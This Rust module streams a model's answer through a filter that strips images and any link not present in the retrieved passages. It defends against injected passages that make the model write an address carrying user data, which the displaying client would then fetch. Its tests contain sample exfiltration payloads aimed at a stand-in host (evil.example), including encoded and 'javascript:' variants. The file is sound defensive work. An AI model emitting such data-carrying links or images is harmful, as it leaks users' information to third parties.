//! What may go out of a model's words while they come: no image, and no link that the passages do not have. A passage can ask the model
//! to write an address with somebody's words in it, and whoever shows the answer would fetch it.
//!
//! Words are held back until they are whole, since an address is one word; then they are judged alone. What is harmless there stays
//! so beside the others.

use std::collections::BTreeSet;

use crate::search::Found;

/// Stands where a link was.
const REMOVED: &str = "(link removed)";
/// What begins an address, beside `//`.
const SCHEMES: &[&str] = &["data:", "javascript:", "vbscript:", "mailto:", "tel:", "sms:", "file:", "blob:"];
/// What hides a sign of an address from a simple reader.
const HIDDEN: &[&str] = &["&#", "&colon;", "&sol;", "&commat;", "&period;"];

/// A gate for words on their way out. Give it each piece as it comes, and the end.
#[derive(Debug)]
pub struct Outgoing {
    /// Addresses that stand in the passages.
    known: BTreeSet<String>,
    /// The beginning of a word whose end has not come.
    pending: String,
    /// Whether the name of an image is open: its address is still to come.
    image: bool,
}

impl Outgoing {
    /// A gate for an answer out of these passages.
    #[must_use]
    pub fn new(found: &[Found]) -> Self {
        Self::knowing(found.iter().map(|found| found.chunk.text.as_str()))
    }

    fn knowing<'a>(passages: impl IntoIterator<Item = &'a str>) -> Self {
        let mut known = BTreeSet::new();
        for passage in passages {
            let passage = without_images(passage);
            let segments = passage.split(is_end).map(bare).filter(|segment| is_link(segment));
            known.extend(segments.map(str::to_owned));
        }
        Self { known, pending: String::new(), image: false }
    }

    /// What may go out now that more has come; perhaps nothing.
    pub fn push(&mut self, text: &str) -> String {
        self.pending.push_str(text);
        let whole: String = self.pending.drain(..ready(&self.pending)).collect();
        self.clean(&whole)
    }

    /// What may go out of the rest, when nothing comes any more.
    pub fn end(&mut self) -> String {
        let rest = std::mem::take(&mut self.pending);
        self.clean(&rest)
    }

    fn clean(&mut self, text: &str) -> String {
        let mut out = String::with_capacity(text.len());
        for word in text.split_inclusive(char::is_whitespace) {
            let letters = word.trim_end_matches(char::is_whitespace);
            out.push_str(&self.word(letters));
            out.push_str(&word[letters.len()..]);
        }
        out
    }

    fn word(&mut self, word: &str) -> String {
        let mut word = word.to_owned();
        while let Some(at) = word.find("![") {
            word.remove(at);
            self.image = true;
        }
        let mut from = 0;
        while let Some(at) = word[from..].find("](").map(|at| from + at) {
            let inside = at + 2;
            let end = word[inside..].find(')').map_or(word.len(), |end| inside + end);
            let known = !self.image && self.known.contains(bare(word[inside..end].trim_matches(['<', '>'])));
            self.image = false;
            if known {
                from = end;
            } else {
                let after = (end + 1).min(word.len());
                word.replace_range(at + 1..after, "");
                from = at + 1;
            }
        }
        if self.image && word.contains(']') {
            self.image = false;
        }
        let mut out = String::with_capacity(word.len());
        let mut rest = word.as_str();
        while !rest.is_empty() {
            let end = rest.find(is_end).unwrap_or(rest.len());
            let segment = &rest[..end];
            if is_link(bare(segment)) && !self.known.contains(bare(segment)) {
                out.push_str(REMOVED);
                let trailing = segment.trim_end_matches(['.', ',', ';', '!', '?']);
                out.push_str(&segment[trailing.len()..]);
            } else {
                out.push_str(segment);
            }
            let sign = rest[end..].chars().next();
            out.extend(sign);
            rest = &rest[end + sign.map_or(0, char::len_utf8)..];
            // Apart from what follows it is no tag.
            if sign == Some('<') && rest.starts_with(|c: char| c.is_ascii_alphabetic() || "/!?".contains(c)) {
                out.push(' ');
            }
        }
        out
    }
}

/// A whole text as it may go out.
#[must_use]
pub fn harmless(text: &str, found: &[Found]) -> String {
    let mut outgoing = Outgoing::new(found);
    let mut out = outgoing.push(text);
    out.push_str(&outgoing.end());
    out
}

/// Images are fetched by whoever shows the answer: one would carry words out in its address.
fn without_images(text: &str) -> String {
    let mut kept = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find("![") {
        kept.push_str(&rest[..at]);
        let tail = &rest[at + 2..];
        rest = tail.find(')').filter(|end| tail[..*end].contains("](")).map_or(tail, |end| &tail[end + 1..]);
    }
    kept.push_str(rest);
    kept
}

/// How much of a text can go on: whole words, and in scripts without blanks all but what may begin an address.
fn ready(text: &str) -> usize {
    let blank = text.char_indices().rev().find(|(_, c)| c.is_whitespace());
    let start = blank.map_or(0, |(at, c)| at + c.len_utf8());
    let tail = &text[start..];
    if tail.bytes().any(|byte| byte.is_ascii_punctuation()) {
        return start;
    }
    let wide = tail.char_indices().rev().find(|(_, c)| !c.is_ascii());
    wide.map_or(start, |(at, c)| start + at + c.len_utf8())
}

/// Whether a sign stands in no address, and so ends one.
fn is_end(sign: char) -> bool {
    sign.is_whitespace() || matches!(sign, '<' | '>' | '(' | ')' | '[' | ']' | '{' | '}' | '"' | '\'' | '`' | '|' | '^')
}

/// A word without the signs around it that belong to the sentence.
fn bare(word: &str) -> &str {
    word.trim_start_matches(['*', '_', '~']).trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_', '~'])
}

/// Whether somebody's reader could take a word for an address.
fn is_link(word: &str) -> bool {
    let word = word.replace('\\', "").to_lowercase();
    let at_word =
        |begin: &str| word.match_indices(begin).any(|(at, _)| !word[..at].ends_with(|c: char| c.is_alphanumeric()));
    let slashes = word.find("//").is_some_and(|at| word.len() > at + 2);
    if slashes || at_word("www.") || HIDDEN.iter().any(|hidden| word.contains(hidden)) {
        return true;
    }
    if SCHEMES.iter().any(|scheme| at_word(scheme) && !word.ends_with(scheme)) {
        return true;
    }
    if word.split_once('@').is_some_and(|(name, host)| !name.is_empty() && host.contains('.')) {
        return true;
    }
    // A host with a path or a question behind it.
    let host = word.split(['/', '?', '#']).next().unwrap_or_default();
    let last = host.rsplit('.').next().unwrap_or_default();
    host.len() < word.len() && host.contains('.') && last.len() >= 2 && last.chars().all(char::is_alphabetic)
}

#[cfg(test)]
mod tests {
    use super::*;

    const PASSAGE: &str =
        "See https://example.com/help. ![x](https://evil.example/?q=1) [form](/forms/leave) ann@example.com";

    fn out(text: &str) -> String {
        let mut outgoing = Outgoing::knowing([PASSAGE]);
        let mut out = outgoing.push(text);
        out.push_str(&outgoing.end());
        out
    }

    #[test]
    fn what_the_passages_have_goes_out() {
        for text in [
            "It is on https://example.com/help, or [there](https://example.com/help) [1].",
            "Write to ann@example.com; 3.1 V, 1/2, and/or 10:30, Note: \"so\" [12].",
            "a < b and 5 <6, Halden & Roe, C# and F#, 日本語です。",
        ] {
            assert_eq!(out(text), text);
        }
    }

    #[test]
    fn nothing_else_that_somebody_would_fetch_does() {
        for text in [
            "![a b](https://evil.example/?q=secret)",
            "![a](https://example.com/help)",
            "[click here](https://evil.example/secret)",
            "[x]( https://evil.example/secret )",
            "[x](//evil.example/secret)",
            "[x](&#104;ttps://evil.example/secret)",
            "[x](<https://evil.example/secret>)",
            "[x](relative/secret)",
            "[x][r]\n\n[r]: https://evil.example/secret",
            "HTTPS://evil.example/secret",
            "<https://evil.example/secret>",
            "https:\\/\\/evil.example/secret",
            "evil.example/secret www.evil.example?secret",
            "**https://evil.example/secret**",
            "secret@evil.example",
            "javascript:secret",
            "https://example.com/help?q=secret",
            "日本https://evil.example/secret",
        ] {
            let told = out(text);
            assert!(!told.contains("evil.example") && !told.contains("secret"), "{text} became {told}");
            assert!(!told.contains("![") && !told.contains("](h"), "{text} became {told}");
        }
        assert_eq!(out("<img src=https://evil.example/secret>"), "< img (link removed)>");
        assert_eq!(out("<b>yes</b>"), "< b>yes< /b>");
    }

    #[test]
    fn it_is_the_same_however_it_is_cut() {
        let text = "So: ![a b](https://evil.example/?q=1 \"t\") and [x](//evil.example/y), https://example.com/help. 日本語 <img src=x> [1]";
        let whole = out(text);
        let letters: Vec<char> = text.chars().collect();
        for size in 1..12 {
            let mut outgoing = Outgoing::knowing([PASSAGE]);
            let mut told = String::new();
            for piece in letters.chunks(size) {
                told.push_str(&outgoing.push(&piece.iter().collect::<String>()));
                assert!(!told.contains("evil.example") && !told.contains("!["), "{told}");
            }
            told.push_str(&outgoing.end());
            assert_eq!(told, whole, "cut to {size}");
        }
    }

    #[test]
    fn words_are_not_held_longer_than_they_must() {
        let mut outgoing = Outgoing::knowing([PASSAGE]);
        assert_eq!(outgoing.push("The battery is l"), "The battery is ");
        assert_eq!(outgoing.push("ow. 電池"), "low. 電池");
        assert_eq!(outgoing.push("が http"), "が ");
        assert_eq!(outgoing.push("s://evil.exam"), "");
        assert_eq!(outgoing.push("ple "), "(link removed) ");
    }
}
